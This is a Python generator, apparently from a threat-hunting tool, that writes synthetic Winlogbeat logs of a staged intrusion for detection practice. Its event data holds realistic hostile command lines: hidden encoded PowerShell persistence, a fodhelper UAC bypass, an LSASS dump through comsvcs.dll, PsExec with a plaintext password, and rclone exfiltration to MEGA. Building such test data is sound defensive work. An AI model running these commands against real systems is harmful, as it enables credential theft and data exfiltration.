                           'microsoft.com/windows/2004/02/mit/task"><Triggers><LogonTrigger><Enabled>true</Enabled>'
                           '</LogonTrigger></Triggers><Actions Context="Author"><Exec><Command>powershell.exe'
                           f'</Command><Arguments>-NoP -W Hidden -enc {encoded_command(STAGER)}</Arguments></Exec>'
                           '</Actions></Task>'})

    # discovery: who am I, who are the domain admins, where are the domain controllers
    t = at + 5 * minute
    for offset, (image, line) in enumerate((
            ("C:\\Windows\\System32\\whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /all'),
            ("C:\\Windows\\System32\\net.exe", '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain'),
            ("C:\\Windows\\System32\\nltest.exe", f'"C:\\Windows\\system32\\nltest.exe" /dclist:{company.domain}'))):
        b.spawn("discovery", t + offset * 40 * second, ps, image, line)

    # privilege escalation: UAC bypass through fodhelper's ms-settings handler
    t = at + 12 * minute
    elevated_stager = encoded_command(STAGER)
    b.script_block("privilege_escalation", t, ps, UAC_BYPASS.format(enc=elevated_stager))
    command_key = f"HKU\\{sid}_Classes\\ms-settings\\Shell\\Open\\command"
    b.registry("privilege_escalation", t + second, ps, command_key + "\\DelegateExecute", "(Empty)")
    b.registry("privilege_escalation", t + second, ps, command_key + "\\(Default)",
               f"powershell.exe -NoP -W Hidden -enc {elevated_stager}")
    fod = b.spawn("privilege_escalation", t + 2 * second, ps, "C:\\Windows\\System32\\fodhelper.exe",
                  '"C:\\Windows\\System32\\fodhelper.exe" ', integrity="High")
    high_ps = b.spawn("privilege_escalation", t + 3 * second, fod,
                      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      f"powershell.exe -NoP -W Hidden -enc {elevated_stager}", integrity="High")

    # credential access: MiniDump of LSASS through comsvcs.dll
    t = at + 15 * minute
    lsass = b.base(ws)["lsass"]
    dump = "C:\\Users\\Public\\Documents\\lsass.dmp"
    dumper = b.spawn("credential_access", t, high_ps, "C:\\Windows\\System32\\rundll32.exe",
                     f'"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump '
                     f"{lsass.pid} {dump} full")
    b.access("credential_access", t + second, dumper, lsass, "0x1fffff",
             "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
             "C:\\Windows\\System32\\comsvcs.dll+3f4c2|C:\\Windows\\System32\\comsvcs.dll+3e1b8|"
             "C:\\Windows\\System32\\rundll32.exe+3bd4|C:\\Windows\\System32\\KERNEL32.DLL+17614|"
             "C:\\Windows\\SYSTEM32\\ntdll.dll+526f1")
    b.file("credential_access", t + 3 * second, dumper, dump)

    # lateral movement: PsExec to the file server with the stolen administrator password
    t = at + 25 * minute
    b.script_block("lateral_movement", t, high_ps, TOOLS_DOWNLOAD)
    b.network("lateral_movement", t + second, high_ps, C2_IP, 80)
    b.file("lateral_movement", t + 2 * second, high_ps, "C:\\Users\\Public\\PsExec64.exe")
    psexec = b.spawn("lateral_movement", t + 30 * second, high_ps, "C:\\Users\\Public\\PsExec64.exe",
                     f"C:\\Users\\Public\\PsExec64.exe \\\\{fs.name} -accepteula -s -u {company.netbios}\\{admin} "
                     "-p Tnk#Fuyu2026 cmd.exe", cwd="C:\\Users\\Public\\")
    t += 31 * second
    b.network("lateral_movement", t, psexec, fs.ip, 445, fs.fqdn)
    b.emit("lateral_movement", t, dc, SECURITY, 4776,
           {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": admin,
            "Workstation": ws.name, "Status": "0x0"})
    logon_id = b.logon("lateral_movement", t + second // 2, fs, admin, 3, ws, package="NTLM", elevated=True)
    b.share("lateral_movement", t + second // 2, fs, admin, logon_id, ws, "ADMIN$", "\\??\\C:\\Windows")
    b.share("lateral_movement", t + second, fs, admin, logon_id, ws, "ADMIN$", "\\??\\C:\\Windows",
            "PSEXESVC.exe", access="0x2")
    fs_base = b.base(fs)
    b.file("lateral_movement", t + second + second // 5, fs_base["system"], "C:\\Windows\\PSEXESVC.exe")
    b.emit("lateral_movement", t + 2 * second, fs, SYSTEM_SCM, 7045,
           {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"},
           pid=fs_base["services"].pid)
    b.registry("lateral_movement", t + 2 * second, fs_base["services"],
               "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath", "%%SystemRoot%%\\PSEXESVC.exe")
    service = b.spawn("lateral_movement", t + 3 * second, fs_base["services"], "C:\\Windows\\PSEXESVC.exe",
                      "C:\\Windows\\PSEXESVC.exe", user="NT AUTHORITY\\SYSTEM", integrity="System",
                      cwd="C:\\Windows\\system32\\")
    for direction in ("stdin", "stdout", "stderr"):
        pipe = f"\\PSEXESVC-{ws.name}-{psexec.pid}-{direction}"
        b.pipe("lateral_movement", t + 4 * second, service, pipe)
        b.share("lateral_movement", t + 4 * second, fs, admin, logon_id, ws, "IPC$", "",
                pipe.lstrip("\\"), access="0x12019f")
    shell = b.spawn("lateral_movement", t + 5 * second, service, "C:\\Windows\\System32\\cmd.exe", '"cmd.exe" ',
                    user="NT AUTHORITY\\SYSTEM", integrity="System")

    # collection: the accounting and HR shares packed with a password
    t = at + 35 * minute
    archive = "C:\\ProgramData\\Intel\\Logs\\bk1129.7z"
    packer = b.spawn("collection", t, shell, "C:\\Program Files\\7-Zip\\7z.exe",
                     f'"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mhe=on -pK9#mamori!x {archive} '
                     "D:\\Shares\\経理\\* D:\\Shares\\人事\\*", cwd="C:\\Windows\\system32\\")
    b.file("collection", t + 95 * second, packer, archive)

    # exfiltration: rclone to MEGA
    t = at + 41 * minute
    b.file("exfiltration", t, fs_base["system"], "C:\\ProgramData\\Intel\\Logs\\rclone.exe")
    b.share("exfiltration", t, fs, admin, logon_id, ws, "ADMIN$", "\\??\\C:\\Windows",
            "..\\ProgramData\\Intel\\Logs\\rclone.exe", access="0x2")
    rclone = b.spawn("exfiltration", t + 20 * second, shell, "C:\\ProgramData\\Intel\\Logs\\rclone.exe",
                     f"C:\\ProgramData\\Intel\\Logs\\rclone.exe copy {archive} mega:bk1129 --config "
                     "C:\\ProgramData\\Intel\\Logs\\rc.conf -q --ignore-existing --auto-confirm --transfers 8",
                     cwd="C:\\ProgramData\\Intel\\Logs\\")
    b.dns("exfiltration", t + 21 * second, rclone, "g.api.mega.co.nz", "31.216.148.11")
    b.dns("exfiltration", t + 23 * second, rclone, "gfs270n123.userstorage.mega.co.nz", EXFIL_IP)
    b.network("exfiltration", t + 23 * second, rclone, EXFIL_IP, 443, "gfs270n123.userstorage.mega.co.nz")


def generate(seed: int = DEFAULT_SEED, start: datetime | None = None,
             duration: timedelta = DEFAULT_DURATION) -> Scenario:
    """Generate the scenario: background activity from ``start`` for ``duration`` across the company, and
    the intrusion from ``start`` + 60 minutes. The same seed and start give the same events, byte for byte."""
    if start is None:
        start = datetime(2026, 11, 30, 0, 30, tzinfo=UTC)  # 09:30 JST on a Monday
    start = start.astimezone(UTC)
    end = start + duration
    company = load_company()
    builder = _Builder(company, random.Random(seed))
    procs = _background(builder, start, end)
    _attack(builder, start + ATTACK_START, procs["WS-SATO01"])
    events = sorted(builder.events, key=lambda e: (e.time, e.host, e.document["winlog"]["record_id"]))
    return Scenario(seed, start, end, company, tuple(events))


def document_lines(events: Sequence[DemoEvent]) -> list[bytes]:
    """The events as JSON Lines (one Winlogbeat document a line), in order."""
    return [orjson.dumps(event.document) + b"\n" for event in events]


def write_logs(scenario: Scenario, folder: Path) -> Path:
    """Write the scenario as ``winlogbeat.jsonl`` in ``folder`` (for ``mamori hunt``); return the file."""
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "winlogbeat.jsonl"
    partial = target.with_suffix(".jsonl.part")
    partial.write_bytes(b"".join(document_lines(scenario.events)))
    partial.replace(target)
    return target
